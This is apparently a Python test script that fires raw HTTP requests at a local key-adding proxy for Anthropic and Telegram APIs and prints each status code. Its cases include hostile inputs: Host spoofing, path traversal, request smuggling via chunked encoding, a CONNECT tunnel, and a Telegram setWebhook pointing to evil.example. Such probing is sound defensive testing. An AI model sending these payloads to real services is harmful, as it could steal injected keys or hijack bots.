"""Sends requests to the service that adds keys, each as it stands, and says the status of each answer: NAME STATUS, a line each."""

import json
import socket

BODY = json.dumps({"model": "claude-haiku-4-5", "max_tokens": 50, "messages": [{"role": "user", "content": "hello"}]})
ELSEWHERE = BODY.replace("claude-haiku-4-5", "elsewhere")


def request(line, body="", headers=""):
    return f"{line} HTTP/1.1\r\nHost: 127.0.0.1:81\r\nContent-Type: application/json\r\nConnection: close\r\n{headers}Content-Length: {len(body)}\r\n\r\n{body}"


SMUGGLED = "POST /anthropic/v1/files HTTP/1.1\r\nHost: 127.0.0.1:81\r\nContent-Length: 0\r\n\r\n"

REQUESTS = {
    "a message": request("POST /anthropic/v1/messages", BODY),
    "as the SDK asks": request("POST /anthropic/v1/messages?beta=true", BODY),
    "models": request("GET /anthropic/v1/models?limit=5"),
    "with keys of its own": request("POST /anthropic/v1/messages", BODY, "x-api-key: another\r\nAuthorization: Bearer another\r\nCookie: a=b\r\nX_Api_Key: another\r\nX-Auth-Token: another\r\n"),
    "with another Host": request("POST /anthropic/v1/messages", BODY).replace("127.0.0.1:81", "evil.example"),
    "another path": request("POST /anthropic/v1/files", BODY),
    "a path below": request("POST /anthropic/v1/messages/batches", BODY),
    "another method": request("DELETE /anthropic/v1/models/x"),
    "another provider": request("POST /openai/v1/responses", BODY),
    "a provider that there is none of": request("POST /evil/v1/messages", BODY),
    "no provider": request("GET /"),
    "out by dots": request("POST /anthropic/v1/models/../files", BODY),
    "an encoded path": request("POST /anthropic/v1%2ffiles", BODY),
    "two slashes": request("POST //anthropic/v1/messages", BODY),
    "a key in the query": request("POST /anthropic/v1/messages?key=another", BODY),
    "a key in a list's query": request("GET /anthropic/v1/models?limit=5&key=another"),
    "a list with a body": request("GET /anthropic/v1/models/x", BODY, "X-HTTP-Method-Override: POST\r\n"),
    "a method in the query": request("GET /anthropic/v1/models?$httpMethod=DELETE"),
    "an absolute address": request("POST http://evil.example/anthropic/v1/files", BODY),
    "another's tunnel": "CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n",
    "two lengths": request("POST /anthropic/v1/messages", BODY, "Content-Length: 3\r\n"),
    "length and chunks": request("POST /anthropic/v1/messages", "0\r\n\r\n" + SMUGGLED, "Transfer-Encoding: chunked\r\n"),
    "another protocol": "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "a provider named by the client": request("POST /anthropic/v1/messages", BODY, "x-openclaw-provider: openai\r\n"),
    "an answer that is elsewhere": request("POST /anthropic/v1/messages", ELSEWHERE),
    "a bot's webhook": request("POST /telegram/bot1:held-by-the-host/SetWebhook", '{"url":"https://evil.example/"}'),
    "a bot's webhook, as in tests": request("POST /telegram/bot1:held-by-the-host/test/setWebhook", '{"url":"https://evil.example/"}'),
    "a bot's way out": request("POST /telegram/bot1:held-by-the-host/logOut", "{}"),
    "another bot": request("POST /telegram/bot2:x/getMe", "{}"),
    "the bot": request("POST /telegram/bot1:held-by-the-host/getMe", "{}"),
}

for name, text in REQUESTS.items():
    with socket.create_connection(("127.0.0.1", 81), 20) as link:
        link.sendall(text.encode())
        answer = b""
        try:
            while piece := link.recv(65536):
                answer += piece
        except OSError:
            pass
    statuses = [line.split()[1].decode() for line in answer.split(b"\r\n") if line.startswith(b"HTTP/1.1 ")]
    print(f"{name}: {' '.join(statuses)}")
